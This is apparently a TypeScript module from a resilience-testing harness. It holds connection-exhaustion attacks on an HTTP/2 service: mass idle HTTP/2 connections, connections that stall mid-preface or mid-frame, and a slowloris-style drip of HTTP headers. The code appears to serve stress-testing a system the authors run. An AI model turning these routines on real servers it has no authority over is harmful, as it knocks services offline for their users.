import { connect } from 'node:net';
import type { Socket } from 'node:net';
import type { Assault, Attack } from './attack';
import { pause } from './repeat';

/** How many connections are opened at once. More would overflow the kernel's accept queue. */
const connectionsAtOnce = 100;

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const settings = frame(0x4, 0);
const settingsAck = frame(0x4, 0x1);
/** The head of a HEADERS frame of 100 bytes, and 10 of these. */
const halfHeaders = Buffer.concat([Buffer.of(0, 0, 100, 0x1, 0x4, 0, 0, 0, 1), Buffer.alloc(10)]);

/** Opens thousands of HTTP/2 connections, which answer PING and make no request. */
export const idleConnections =
  (count: number): Attack =>
  ({ address }) =>
    Promise.resolve((assault) =>
      keepOpen(assault, count, address, (socket) => {
        socket.write(Buffer.concat([preface, settings, settingsAck]));
        answerPings(socket);
      }),
    );

/** What a connection sends before it goes silent: nothing, half a preface, half a frame. */
const beginnings = [Buffer.alloc(0), preface.subarray(0, 10), Buffer.concat([preface, settings, halfHeaders])];

/** Opens connections that never finish a request. */
export const slowConnections: Attack = ({ address }) =>
  Promise.resolve((assault) =>
    keepOpen(assault, 2000, address, (socket, n) => {
      socket.write(beginnings[n % beginnings.length]!);
    }),
  );

/** Opens connections to the HTTP port, which send one header per second without end. */
export const slowHttp: Attack = ({ httpUrl }) =>
  Promise.resolve((assault) =>
    keepOpen(assault, 2000, new URL(httpUrl).host, (socket) => {
      socket.write('GET /metrics HTTP/1.1\r\nHost: localhost\r\n');
      const timer = setInterval(() => socket.write('X-Slow: 1\r\n'), 1000);
      socket.once('close', () => clearInterval(timer));
    }),
  );

/** Keeps `count` connections open, and replaces those that are closed. */
async function keepOpen(
  assault: Assault,
  count: number,
  address: string,
  begin: (socket: Socket, n: number) => void,
): Promise<void> {
  const [, host = '', port = ''] = /^(.*):(\d+)$/.exec(address) ?? [];
  const sockets = new Set<Socket>();
  let opened = 0;
  let open = 0;
  while (!assault.isOver) {
    const missing = Math.min(connectionsAtOnce, count - sockets.size);
    for (let n = 0; n < missing; n++) {
      const socket = assault.own(connect(Number(port), host));
      sockets.add(socket);
      socket.once('connect', () => {
        assault.count('connections');
        assault.peak('open at once', ++open);
        socket.once('close', () => (open -= 1));
        begin(socket, opened++);
      });
      socket.once('close', () => sockets.delete(socket));
      socket.on('error', () => undefined);
      socket.resume();
    }
    await pause(assault);
  }
}

/** Answers PING frames. Assumes that frames arrive whole, because the sidecar writes each at once. */
function answerPings(socket: Socket): void {
  socket.on('data', (data: Buffer) => {
    for (let at = 0; at + 9 <= data.length; at += 9 + data.readUIntBE(at, 3)) {
      const isPing = data[at + 3] === 0x6 && data[at + 4] === 0;
      if (isPing)
        socket.write(Buffer.concat([Buffer.of(0, 0, 8, 0x6, 0x1, 0, 0, 0, 0), data.subarray(at + 9, at + 17)]));
    }
  });
}

/** An empty frame on stream 0. */
function frame(type: number, flags: number): Buffer {
  return Buffer.of(0, 0, 0, type, flags, 0, 0, 0, 0);
}
